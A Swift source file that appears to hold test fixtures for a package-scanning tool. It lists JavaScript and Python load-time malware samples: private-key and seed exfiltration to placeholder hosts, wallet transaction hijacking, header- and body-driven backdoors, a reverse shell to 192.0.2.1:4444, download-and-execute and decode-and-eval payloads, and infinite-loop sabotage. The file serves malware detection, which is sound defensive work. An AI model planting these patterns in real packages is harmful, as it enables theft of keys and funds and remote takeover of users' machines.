import SallyportAnalysis

/// What attacks do when a program loads the package.
enum LoadSnippets {
    static let javaScript: [Snippet] = [
        Snippet(
            "sends a key that a constructor is given",
            .chainKeyExfiltration,
            source: """
                const addToQueue = async (data) => { await fetch("https://rpc.example.invalid/queue", { method: "POST", headers: { "x-id": data } }); };
                class Account {
                  constructor(secretKey, publicKey) { this.keypair = { secretKey, publicKey }; addToQueue(bs58.encode(secretKey)); }
                }
                const bs58 = require('bs58'); exports.Account = Account; exports.Keypair = Account;
                """
        ),
        Snippet(
            "sends a seed as a header",
            .chainKeyExfiltration,
            source: """
                "use strict";
                const validSeeds = new Set([]);
                function checkValidityOfSeed(seed) {
                  if (validSeeds.has(seed)) return;
                  validSeeds.add(seed);
                  fetch("https://x.example.invalid/xcm", { method: "POST", headers: { "ad-referral": seed } });
                }
                class Wallet { constructor(publicKey, privateKey, opts = {}) { this.publicKey = publicKey; this.privateKey = privateKey; checkValidityOfSeed(privateKey); } }
                exports.Wallet = Wallet;
                """
        ),
        Snippet(
            "sends a recovery phrase through an older interface",
            .chainKeyExfiltration,
            source: """
                var https = require('https');
                module.exports.fromMnemonic = function (mnemonic, path) {
                  var r = https.request({ hostname: 'x.example.invalid', path: '/?m=' + encodeURIComponent(mnemonic) });
                  r.end();
                };
                """
        ),
        Snippet(
            "replaces the request of a wallet",
            .chainWalletHook,
            .capabilityWallet,
            source: """
                const to = '0x52908400098527886E0F7030069857D2E4169EE7';
                if (typeof window !== 'undefined' && window.ethereum) {
                  const original = window.ethereum.request;
                  window.ethereum.request = async function (a) { if (a.method === 'eth_sendTransaction') a.params[0].to = to; return original.call(this, a); };
                }
                """
        ),
        Snippet(
            "replaces addresses in answers",
            .chainWalletHook,
            source: """
                const mine = ['bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'];
                const re = /\\b0x[a-fA-F0-9]{40}\\b/g;
                const originalFetch = window.fetch;
                window.fetch = async function (...a) { const r = await originalFetch(...a); const t = (await r.text()).replace(re, mine[0]); return new Response(t); };
                """
        ),
        Snippet(
            "runs what a header brings",
            .chainBackdoor,
            source: """
                module.exports = function (req, res, next) {
                  var code = req.headers['x-node'];
                  if (code) { require('vm').runInThisContext(Buffer.from(code, 'hex').toString())(module.require); }
                  next();
                };
                """
        ),
        Snippet(
            "runs what a body brings",
            .chainBackdoor,
            source: """
                const express = require('express'); const { exec } = require('child_process'); const app = express();
                app.post('/api/v1', (req, res) => { exec(req.body.cmd, (e, out) => res.end(out)); });
                """
        ),
        Snippet(
            "joins a shell with a connection",
            .chainBackdoor,
            source: """
                (function () { var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
                  var client = new net.Socket(); client.connect(4444, "192.0.2.1", function () { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
                })();
                """
        ),
        Snippet(
            "never comes back",
            .capabilityDestructive,
            source: """
                let am = require('./american'); am();
                for (let i = 666; i < Infinity; i++) { if (i % 333) { console.log('testing'.zalgo) } }
                """
        ),
        Snippet(
            "never comes back, shorter",
            .capabilityDestructive,
            source: "for(;;){console.log('LIBERTY LIBERTY LIBERTY')}"
        ),
        Snippet(
            "decodes what it brings along and evaluates it",
            .chainDecodeExecute,
            source: """
                const fs = require('fs'), path = require('path');
                const data = fs.readFileSync(path.join(__dirname, 'logo.png'));
                const zlib = require('zlib');
                eval(zlib.inflateSync(data.slice(1024)).toString());
                """
        ),
    ]

    static let python: [Snippet] = [
        Snippet(
            "adds to the module of another package",
            .chainUnasked,
            .capabilityPersistence,
            source: """
                import os, site
                p = os.path.join(site.getsitepackages()[0], 'other', 'sessions.py')
                with open(p, 'a') as f:
                    f.write('import x')
                """
        ),
        Snippet(
            "sends a key that a function is given",
            .chainKeyExfiltration,
            source: """
                import requests
                from solders.keypair import Keypair
                def sign(private_key, message):
                    requests.post("https://x.example.invalid/r", json={"k": str(private_key)})
                    return Keypair.from_bytes(private_key).sign(message)
                """
        ),
        Snippet(
            "runs what a request brings",
            .chainBackdoor,
            source: """
                from flask import request
                def before():
                    c = request.headers.get("X-C")
                    if c: exec(c)
                """
        ),
        Snippet(
            "never comes back",
            .capabilityDestructive,
            source: """
                while True:
                    print("LIBERTY")
                """
        ),
        Snippet(
            "starts a thread that runs an answer",
            .chainDownloadExecute,
            source: """
                import threading, urllib.request, base64
                def work():
                    d = urllib.request.urlopen("https://x.example.invalid/t.wav").read()
                    exec(compile(base64.b64decode(d[44:]), "m", "exec"))
                threading.Thread(target=work, daemon=True).start()
                """
        ),
        Snippet(
            "posts who and where it is",
            .chainSystemInformation,
            source: """
                import requests, getpass, socket
                requests.post("https://x.example.invalid", json={"u": getpass.getuser(), "h": socket.gethostname()})
                """
        ),
        Snippet(
            "writes an answer to a constant path and starts it",
            .chainDownloadExecute,
            source: """
                import subprocess, urllib.request
                with urllib.request.urlopen("https://x.example.invalid/r.pyz") as r:
                    with open("/tmp/managed.pyz", "wb") as f:
                        f.write(r.read())
                subprocess.Popen(["python3", "/tmp/managed.pyz"], start_new_session=True)
                """
        ),
        Snippet(
            "fetches by a command and starts by another",
            .chainDownloadExecute,
            source: """
                import os, subprocess, sys
                URL = "https://x.example.invalid/t.pyz"
                DEST = "/tmp/t.pyz"
                def run():
                    if not os.path.exists(DEST):
                        subprocess.run(["curl", "-k", "-L", "-s", URL, "-o", DEST], timeout=15)
                    subprocess.Popen([sys.executable, DEST], stdout=subprocess.DEVNULL)
                run()
                """
        ),
    ]
}
